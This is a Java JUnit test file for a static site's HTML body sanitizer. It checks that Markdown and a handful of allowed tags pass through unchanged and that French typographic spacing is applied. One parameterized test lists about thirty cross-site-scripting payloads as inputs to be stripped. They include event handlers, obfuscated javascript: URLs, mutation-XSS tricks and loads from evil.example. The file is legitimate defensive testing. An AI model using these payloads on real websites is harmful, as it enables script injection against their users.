package fr.gouv.diplomatie.daect.programme.bake;

import com.vladsch.flexmark.html.HtmlRenderer;
import com.vladsch.flexmark.parser.Parser;
import com.vladsch.flexmark.util.data.DataHolder;
import fr.gouv.diplomatie.daect.programme.content.MarkdownFlavour;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Page bodies as the bake publishes them: Markdown and the editors' few tags untouched, nothing that runs. */
class BodySanitizerTest {

    /** The extensions of this site's jbake.properties. */
    private static final DataHolder OPTIONS = MarkdownFlavour.options(MarkdownFlavour.extensions("AUTOLINKS,FENCED_CODE_BLOCKS,DEFINITIONS,TABLES"));
    private static final Parser PARSER = Parser.builder(OPTIONS).build();
    private static final HtmlRenderer RENDERER = HtmlRenderer.builder(OPTIONS).build();

    private final BodySanitizer sanitizer = new BodySanitizer();

    private static String markdown(String... lines) {
        return RENDERER.render(PARSER.parse(String.join("\n", lines) + "\n"));
    }

    @Test
    void markdownAndTheAllowedTagsAreKeptByteForByte() {
        String html = markdown(
                "## Un titre «entre guillemets» & \"autres\"",
                "",
                "Du *texte*, du **gras**, du `code <b>`, un [lien](../guide.html \"Le guide\"), [un autre](https://www.diplomatie.gouv.fr/?a=1&b=2),",
                "[écrire](mailto:daect@example.org), [appeler](tel:+33143176264), [plus haut](#haut), https://www.cncd.fr/ en clair.",
                "",
                "![Carte](../images/carte.png \"Carte\") ![Logo](https://www.example.org/logo.png)",
                "",
                "- un",
                "- deux",
                "",
                "3. trois",
                "4. quatre",
                "",
                "> Citation",
                "",
                "---",
                "",
                "| Gauche | Centre | Droite |",
                "|:-------|:------:|-------:|",
                "| a      | b      | c      |",
                "",
                "Terme",
                ": Définition",
                "",
                "```java",
                "if (a < b) { alert(\"x\"); }",
                "```",
                "",
                "Les <abbr title=\"collectivités territoriales\">CT</abbr> et la <span lang=\"en\">governance</span>, le 1<sup>er</sup>,",
                "H<sub>2</sub>O, <kbd>Ctrl</kbd>, <mark>important</mark>,<br>à la ligne.");
        assertEquals(html, sanitizer.sanitize(html));
        assertTrue(html.contains("<table>") && html.contains("<dl>") && html.contains("class=\"language-java\"") && html.contains("<abbr title="),
                "the sample covers what it means to cover: " + html);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>document.title = 'pwned'</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=\"window.pwned = 1\">",
            "Texte <img src=x\nonerror=\"window.pwned = 1\"> suite",
            "<svg onload=\"window.pwned = 1\"><circle r=\"4\"/></svg>",
            "<details open ontoggle=\"window.pwned = 1\"><summary>x</summary></details>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<form action=\"https://evil.example/\"><input name=\"q\"><button>Envoyer</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<style>body { display: none }</style>",
            "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
            "<a href=\"javascript:window.pwned=1\">lien</a>",
            "<a href=\"jav&#x61;script:window.pwned=1\">lien</a>",
            "<a href=\"java\tscript:window.pwned=1\">lien</a>",
            "<a href=\"vbscript:msgbox(1)\">lien</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">lien</a>",
            "[lien](javascript:window.pwned=1)",
            "[lien](jav&#x61;script:window.pwned=1)",
            "<javascript:window.pwned=1>",
            "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "<abbr title=\"x\" onclick=\"window.pwned = 1\" style=\"color:red\">x</abbr>",
            "<a href=\"https://example.org/\" target=\"_blank\">nouvel onglet</a>",
            "<p>Texte</p></div><script>window.pwned = 1</script>",
            "<!-- note --><script>window.pwned = 1</script>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            // Outside SVG and MathML, a browser reads "<![CDATA[ >" as a comment that ends at the first ">".
            "Texte <![CDATA[ ><img src=x onerror=\"window.pwned = 1\"> ]]> suite",
            "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\"></noscript>",
            "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    })
    void nothingThatRunsOrLeavesTheSiteIsPublished(String payload) {
        String published = sanitizer.sanitize(markdown(payload));
        List<String> found = new ArrayList<>();
        for (Element element : Jsoup.parseBodyFragment(published).body().getAllElements()) {
            if (!Set.of("body", "p", "a", "img", "abbr", "br", "code", "span").contains(element.normalName())) {
                found.add("<" + element.normalName() + ">");
            }
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                String value = attribute.getValue().replaceAll("[\\x00-\\x20]", "").toLowerCase(Locale.ROOT);
                if (name.startsWith("on") || name.equals("style") || name.equals("target")
                        || value.startsWith("javascript:") || value.startsWith("vbscript:") || value.startsWith("data:")) {
                    found.add(name + "=" + attribute.getValue());
                }
            }
        }
        assertEquals(List.of(), found, published);
    }

    @Test
    void aRefusedTagGoesButItsTextStays() {
        assertEquals("<p>Avant  après <a>lien</a></p>\n",
                sanitizer.sanitize(markdown("Avant <script>window.pwned = 1</script> après <a href=\"javascript:x()\" target=\"_blank\">lien</a>")));
    }

    @Test
    void frenchSpacingIsTheOnlyChangeToAValidBody() {
        String html = markdown("Un « titre » : *texte*, `a : b`, [lien](guide.html \"Le guide : tout\") !");
        assertEquals("<p>Un «\u00a0titre\u00a0»\u00a0: <em>texte</em>, <code>a : b</code>,"
                        + " <a href=\"guide.html\" title=\"Le guide : tout\">lien</a>\u00a0!</p>\n",
                sanitizer.sanitize(html).replace("&nbsp;", "\u00a0"));
    }

    @Test
    void aBodyWithNothingToChangeIsTheVerySameString() {
        String html = markdown("Du *texte* sans espace avant sa ponctuation, «mot», 10:00.");
        assertSame(html, sanitizer.sanitize(html));
        String spaced = markdown("Rien à changer dans `a : b`.");
        assertSame(spaced, sanitizer.sanitize(spaced), "parsed, but nothing changed: the very same string");
    }

    @Test
    void anUnsafeBodyIsCleanedAndSpacedInOnePass() {
        assertEquals("<p>Avant\u00a0: <a>lien</a>\u00a0!</p>\n",
                sanitizer.sanitize(markdown("Avant <script>x()</script>: <a href=\"javascript:x()\">lien</a> !")).replace("&nbsp;", "\u00a0"));
    }
}
